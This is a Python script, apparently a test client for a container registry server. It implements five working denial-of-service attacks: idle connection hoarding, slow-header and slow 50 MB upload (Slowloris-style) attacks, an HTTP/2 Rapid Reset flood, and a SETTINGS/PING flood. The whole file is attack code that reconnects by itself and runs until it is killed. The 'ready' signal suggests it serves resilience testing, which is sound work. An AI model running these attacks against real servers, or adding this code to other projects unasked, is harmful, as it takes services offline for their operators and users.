"""One hostile client: attack.py ATTACK ADDRESS COUNT. Says `ready` once it is at it, and goes on until it is killed.

idle         holds so many connections, each used once
slow-heads   as many heads, a byte a second each
slow-bodies  as many uploads of 50 MB, a byte a second each
rapid-reset  as many HTTP/2 connections, each with requests that are reset at once, without end
settings     as many HTTP/2 connections, each with SETTINGS and PING that nobody reads the answers of, without end
"""
import contextlib
import itertools
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(address, first=b""):
    connection = socket.create_connection(address)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if first:
        connection.sendall(first)
    connection.setblocking(False)
    return connection


def is_closed(connection):
    with contextlib.suppress(BlockingIOError):
        try:
            while True:
                if not connection.recv(65536):
                    return True
        except OSError as error:
            if isinstance(error, BlockingIOError):
                raise
            return True
    return False


def hold(address, count, first, drops):
    """Keeps `count` connections that began with `first`; each sends a byte of `drops` every second. Those that are closed are made again."""
    held = [connect(address, first) for _ in range(count)]
    print("ready", flush=True)
    for turn in itertools.count():
        # A second in forty parts, so that the work is spread.
        for part in range(40):
            for place in range(part, count, 40):
                connection = held[place]
                with contextlib.suppress(BlockingIOError):
                    try:
                        if drops:
                            connection.send(drops[turn % len(drops):][:1])
                        closed = is_closed(connection)
                    except BlockingIOError:
                        raise
                    except OSError:
                        closed = True
                    if closed:
                        connection.close()
                        held[place] = connect(address, first)
            time.sleep(1 / 40)


def flood(address, count, make):
    """Keeps `count` connections that send what `make` gives as fast as it is taken. Answers are read and thrown away only where the server would stop
    otherwise, which is what makes it go on."""
    def fresh():
        return [connect(address, PREFACE), make(), b""]
    held = [fresh() for _ in range(count)]
    print("ready", flush=True)
    while True:
        _, writable, _ = select.select([], [connection for connection, _, _ in held], [], 1)
        for one in held:
            if one[0] not in writable:
                continue
            one[2] = one[2] or next(one[1])
            try:
                one[2] = one[2][one[0].send(one[2]):]
                closed = is_closed(one[0])
            except BlockingIOError:
                closed = False
            except OSError:
                closed = True
            if closed:
                one[0].close()
                one[:] = fresh()


def resets():
    head = b"\x82\x84\x86\x41\x01x"
    for first in range(1, 2**31 - 400, 400):
        numbers = range(first, first + 400, 2)
        yield b"".join(frame(1, 5, number, head) + frame(3, 0, number, struct.pack(">I", 8)) for number in numbers)


def settings():
    many = (frame(4, 0, 0, b"\0\x03\0\0\0\x64") + frame(6, 0, 0, b"pingping")) * 500
    while True:
        yield many


def main():
    attack, address, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    host, port = address.rsplit(":", 1)
    address = (host, int(port))
    if attack == "idle":
        hold(address, count, b"GET /v2/ HTTP/1.1\r\nHost: x\r\n\r\n", b"")
    elif attack == "slow-heads":
        hold(address, count, b"GET /v2/ HTTP/1.1\r\nHost: x\r\nX-A: ", b"v")
    elif attack == "slow-bodies":
        digest = "sha256:" + "0" * 64
        head = f"POST /v2/hostile/slow/blobs/uploads/?digest={digest} HTTP/1.1\r\nHost: x\r\nContent-Length: 50000000\r\n\r\n"
        hold(address, count, head.encode(), b"v")
    elif attack == "rapid-reset":
        flood(address, count, resets)
    elif attack == "settings":
        flood(address, count, settings)
    else:
        raise SystemExit(__doc__)


main()
